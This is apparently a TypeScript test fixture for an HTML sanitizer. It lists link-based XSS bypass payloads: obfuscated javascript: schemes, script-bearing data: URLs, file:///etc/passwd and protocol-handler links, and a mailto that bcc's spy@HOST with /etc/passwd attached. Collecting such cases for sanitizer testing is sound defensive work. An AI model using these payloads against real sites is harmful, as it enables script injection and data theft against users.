// Links whose target runs or reads something, in spellings that lists have missed.
import { type Attack, body } from './attack.ts';

const SCRIPT_PAGE = '<script>RUN</script>';
const SCRIPT_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>";

/** By what hides the scheme; each list is one message. */
const TARGETS: Readonly<Record<string, readonly string[]>> = {
  'the plain javascript scheme': ['javascript:RUN', 'JaVaScRiPt:RUN', 'javascript:/**/RUN'],
  'white space before the scheme': [' javascript:RUN', '\u0001javascript:RUN', '\u2028javascript:RUN'],
  'white space nobody sees': ['\u00a0javascript:RUN', '\ufeffjavascript:RUN', 'javascript\u200b:RUN'],
  'white space in the scheme': ['java\tscript:RUN', 'java\nscript:RUN', 'j\r\na\r\nv\r\na\r\nscript:RUN'],
  'NUL in the scheme': ['java\0script:RUN', '\0javascript:RUN', 'javascript\0:RUN'],
  'named entities in the scheme': ['java&Tab;script:RUN', 'javascript&NewLine;:RUN', 'javascript&colon;RUN'],
  'numbered entities in the scheme': [
    '&#x6A;avascript&colon;RUN',
    'javascript&#58;RUN',
    'javascript&#x3a;RUN',
  ],
  'long entities without an end': [
    '&#0000106avascript:RUN',
    '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58;RUN',
  ],
  'a scheme before the scheme': ['feed:javascript:RUN', 'view-source:javascript:RUN', 'http:javascript:RUN'],
  'a host after the scheme': ['javascript://example.org/%0aRUN', 'https:///javascript:RUN'],
  'another script': ['vbscript:RUN', 'livescript:RUN', 'mocha:RUN'],
  'a page of data': [`data:text/html,${SCRIPT_PAGE}`, `data:text/html;base64,B64[[${SCRIPT_PAGE}]]`],
  'a page of data that is XML': [
    `data:image/svg+xml,${SCRIPT_SVG}`,
    `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'>${SCRIPT_PAGE}</html>`,
  ],
  'a page of data in UTF-7': ['data:text/html;charset=utf-7,+ADw-script+AD4-RUN+ADw-/script+AD4-'],
  'addresses inside the browser': [
    'blob:https://example.org/x',
    'filesystem:LEAK/x',
    'about:blank',
    'chrome://settings',
  ],
  'files of the reader': ['file:///etc/passwd', '\\\\example.org\\share', 'jar:LEAK!/x.html'],
  'programs of the reader': [
    'ms-word:ofe|u|LEAK/d.docx',
    'search-ms:query=x&crumb=location:LEAK',
    'x-apple.systempreferences:',
    'steam://run/1',
    'intent://x#Intent;scheme=javascript;end',
  ],
  'the telephone': ['tel:*%2306%23', 'sms:1?body=x', 'facetime:x'],
};

export const LINKS: readonly Attack[] = [
  ...Object.entries(TARGETS).map(([name, targets]) =>
    body(
      `a link to ${name}`,
      targets.map((target) => `<a href="${target}">link</a><area href="${target}">`).join(' '),
    ),
  ),
  body(
    'formaction and friends',
    '<form action="javascript:RUN"><button formaction="javascript:RUN">x</button><input type=image src="LEAK/i.png"></form>',
  ),
  body(
    'links into the app itself',
    '<a href="../graphql?query={viewer{id}}">a</a><a href="/session">b</a><a href="../raw/x" download>c</a><a href="?x">d</a><a href="#top">e</a><a href="">f</a>',
  ),
  body(
    'links with targets of the app',
    '<a href="LEAK/t1" target=_top>a</a><a href="LEAK/t2" target=_parent>b</a><a href="LEAK/t3" target=_self>c</a><a href="LEAK/t4" target=postern rel=opener>d</a><base target=_top>',
  ),
  body(
    'a mailto with hidden fields',
    '<a href="mailto:x@example.org?bcc=spy@HOST&attach=/etc/passwd&body=%3Cscript%3ERUN%3C/script%3E">x</a><a href="mailto:%0d%0aBcc:spy@HOST">y</a>',
  ),
];
